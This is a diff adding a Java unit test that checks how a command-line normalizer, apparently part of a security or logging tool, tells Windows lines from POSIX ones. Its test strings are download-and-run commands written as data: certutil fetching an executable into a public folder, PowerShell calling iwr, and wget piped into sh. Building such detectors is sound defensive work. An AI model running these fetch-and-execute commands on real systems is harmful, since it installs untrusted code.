@@ -32,6 +32,20 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void aUrlSaysNothingOfThePlatform() {
+        // without an executable path the platform is guessed from the line: a URL's slashes come
+        // before the Windows path in a download, and must not make it a POSIX line whose
+        // backslashes are escapes
+        assertThat(CommandLineNormalizer.isWindows(null,
+                "certutil -urlcache -f http://files.example/a/b.exe C:\\Users\\Public\\b.exe")).isTrue();
+        assertThat(CommandLineNormalizer.isWindows(null,
+                "powershell \"'x' | Out-File $env:USERPROFILE\\Documents\\a.ps1; iwr https://h.example/p/q\"")).isTrue();
+        assertThat(CommandLineNormalizer.isWindows(null, "curl -s http://files.example/a/b.sh -o /tmp/b.sh")).isFalse();
+        assertThat(CommandLineNormalizer.isWindows(null, "wget http://files.example/a/b.sh; sh b.sh")).isFalse();
+        assertThat(CommandLineNormalizer.isWindows(null, "curl http://")).isFalse();
+    }
+
+    @Test
     void longCommandLinesAreReadInFull() {
         String raw = "echo " + "A".repeat(5000) + " \"B\"";
         assertThat(CommandLineNormalizer.normalize(raw, false)).isEqualTo("echo " + "a".repeat(5000) + " b");
